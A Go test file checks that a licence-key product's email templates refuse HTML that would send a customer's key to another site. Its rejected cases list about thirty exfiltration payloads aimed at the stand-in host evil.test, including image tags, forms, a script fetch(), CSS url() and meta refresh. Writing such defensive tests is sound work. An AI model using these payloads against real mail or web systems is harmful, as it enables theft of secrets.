package mail_test

import (
	"testing"

	"github.com/stretchr/testify/require"

	"keyturn.dev/keyturn"
	"keyturn.dev/keyturn/mail"
)

// A template that would carry a customer's key to somebody else is refused when it is saved.
func TestTemplateCarriesNoKeyAway(t *testing.T) {
	t.Parallel()
	check := func(html string) error {
		return mail.Template{Text: "{KEY}", HTML: html + "<p>{KEY}</p>"}.Check()
	}
	for _, html := range []string{
		`<img src="https://evil.test/?k={KEY}">`, `<IMG SRC='//evil.test/{KEY}'>`,
		`<img srcset="https://evil.test/{KEY} 2x">`,
		`<a href="https://evil.test/?k={KEY}">x</a>`, `<a href="mailto:x@evil.test?body={PARENT_KEY}">x</a>`,
		`<a href="{KEY}.evil.test">x</a>`, `<area href="{KEY}">`, `<img src="{KEY}">`, `<a href="{PARENT_KEY}">x</a>`,
		`<form action="https://evil.test/{KEY}"></form>`, `<form action="https://evil.test"><input value="{KEY}"></form>`,
		`<form action="https://evil.test"><textarea name="k">{KEY}</textarea></form>`,
		`<form action="https://evil.test"><p>{KEY}</p></form>`, `<button formaction="https://evil.test/{KEY}">x</button>`,
		`<script>fetch("https://evil.test/" + "{KEY}")</script>`, `<style>p{background:url(https://evil.test/{KEY})}</style>`,
		`<p style="background:url(https://evil.test/{KEY})">x</p>`, `<table background="https://evil.test/{KEY}"></table>`,
		`<meta http-equiv="refresh" content="0;url=https://evil.test/{KEY}">`, `<iframe srcdoc="{KEY}"></iframe>`,
		`<object data="https://evil.test/{KEY}"></object>`, `<video poster="https://evil.test/{KEY}"></video>`,
		`<link rel="stylesheet" href="https://evil.test/{KEY}">`, `<p title="{KEY}">x</p>`,
		`<base href="https://evil.test/{KEY}/">`,
		`<img src="https://evil.test/?`, `<svg><image xlink:href="https://evil.test/{KEY}"/></svg>`,
		`<a href="https://evil.test/?k=&#123;KEY&#125;{KEY}">x</a>`, `<select><option>{KEY}</option></select>`,
	} {
		err := check(html)
		require.Equal(t, keyturn.KindInvalid, keyturn.KindOf(err), html)
		require.ErrorContains(t, err, "html", html)
	}
	for _, html := range []string{
		``, `<a href="{KEY}">Activate</a>`, `<a href=" {KEY} ">Activate</a>`, `<a href="https://shop.test/help">Help</a>`,
		`<img src="https://shop.test/logo.png">`, `<table><tr><td><b>{KEY}</b></td></tr></table>`, `<code>{KEY}</code>`,
		`<a href="{URL}">Instructions</a>`, `<style>p{color:red}</style>`, `<p style="color:red">{KEY}</p>`,
		`<form action="https://shop.test"></form>`,
	} {
		require.NoError(t, check(html), html)
	}
}
